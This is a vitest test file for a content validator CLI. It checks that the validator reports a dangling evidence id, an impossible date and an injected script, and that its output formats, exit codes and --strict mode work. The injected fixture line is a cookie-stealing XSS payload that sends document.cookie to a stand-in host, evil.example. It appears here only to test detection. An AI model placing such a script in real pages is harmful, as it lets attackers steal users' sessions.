import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FIXTURE_EPOCH, SEED_CONTENT } from '../helpers/fixture-content.ts';

// `npm run validate` as a user runs it, on a copy of the seed content broken in three ways at once: a dangling
// evidence id, a malformed date, and a <script> in a body. All three must be reported, with file and line.
const ROOT = new URL('../..', import.meta.url).pathname;
let dir: string;
const measure = 'content/measures/portability-erasure/export-and-erasure.mdx';

function validate(...args: string[]) {
  const result = spawnSync(process.execPath, [join(ROOT, 'scripts/validate.ts'), '--content', join(dir, 'content'), ...args], {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, SOURCE_DATE_EPOCH: String(FIXTURE_EPOCH), NO_COLOR: '1' },
  });
  return { status: result.status, out: result.stdout, err: result.stderr };
}

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'tc-cli-'));
  cpSync(SEED_CONTENT, join(dir, 'content'), { recursive: true });
  const file = join(dir, measure);
  const text = readFileSync(file, 'utf8')
    .replace('data-deletion-feature]', 'data-deletion-featur]')
    .replace(/reviewed: \d{4}-\d{2}-\d{2}/, 'reviewed: 2026-11-31');
  writeFileSync(file, `${text}\n<script>fetch('https://evil.example/?c=' + document.cookie)</script>\n`);
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('npm run validate', () => {
  it('passes on the seed content with warnings only', () => {
    rmSync(join(dir, 'pristine'), { recursive: true, force: true });
    cpSync(SEED_CONTENT, join(dir, 'pristine'), { recursive: true });
    const result = spawnSync(process.execPath, [join(ROOT, 'scripts/validate.ts'), '--content', join(dir, 'pristine')], {
      cwd: dir,
      encoding: 'utf8',
      env: { ...process.env, SOURCE_DATE_EPOCH: String(FIXTURE_EPOCH), NO_COLOR: '1' },
    });
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(/✔ 0 errors, \d+ warnings\n {2}warnings by rule: .*specificity \d+/);
  });

  it('reports a dangling evidence id, a malformed date and a <script> in one run, and exits 1', () => {
    const { status, out } = validate();
    expect(status).toBe(1);
    const errors = out.split('\n').filter((line) => /\berror\b/.test(line) && !line.includes('errors by rule'));
    const file = join(dir, measure);
    expect(errors).toEqual([
      expect.stringMatching(
        new RegExp(`^${file}:12:\\d+ +error +unknown-evidence +PRT-01 names evidence "data-deletion-featur", which does not exist$`),
      ),
      expect.stringMatching(new RegExp(`^${file}:13:1 +error +schema +reviewed: not a real calendar date`)),
      expect.stringMatching(
        new RegExp(`^${file}:19:1 +error +unsafe-html +<script> would put code or foreign content on the public site$`),
      ),
    ]);
    expect(out).toContain('hint: add content/evidence/data-deletion-featur.yaml, or use an existing id such as "data-deletion-feature"');
  });

  it('prints JSON with every finding', () => {
    const { status, out } = validate('--format', 'json');
    expect(status).toBe(1);
    const report = JSON.parse(out) as { errors: number; findings: { rule: string; line: number }[] };
    expect(report.errors).toBe(3);
    expect(report.findings.filter((f) => ['unknown-evidence', 'schema', 'unsafe-html'].includes(f.rule)).map((f) => f.line)).toEqual([
      12, 13, 19,
    ]);
  });

  it('prints GitHub annotations with escaped messages', () => {
    const { out } = validate('--format', 'github');
    expect(out).toMatch(/^::error file=.*export-and-erasure\.mdx,line=19,col=1,title=unsafe-html::<script> would put code/m);
    expect(out).toMatch(/^::warning file=.*,title=specificity::/m);
  });

  it('turns warnings into errors with --strict', () => {
    rmSync(join(dir, 'pristine'), { recursive: true, force: true });
    cpSync(SEED_CONTENT, join(dir, 'pristine'), { recursive: true });
    const result = spawnSync(process.execPath, [join(ROOT, 'scripts/validate.ts'), '--content', join(dir, 'pristine'), '--strict'], {
      cwd: dir,
      encoding: 'utf8',
      env: { ...process.env, SOURCE_DATE_EPOCH: String(FIXTURE_EPOCH), NO_COLOR: '1' },
    });
    expect(result.status).toBe(1);
    expect(result.stdout).toMatch(/✖ \d+ errors, 0 warnings/);
  });

  it('answers a usage mistake with exit 2, one line and where the usage is', () => {
    const { status, err } = validate('--format', 'xml');
    expect(status).toBe(2);
    expect(err).toBe('validate: --format must be text, json or github, got "xml"\nRun `npm run validate -- --help` for the options.\n');
  });
});
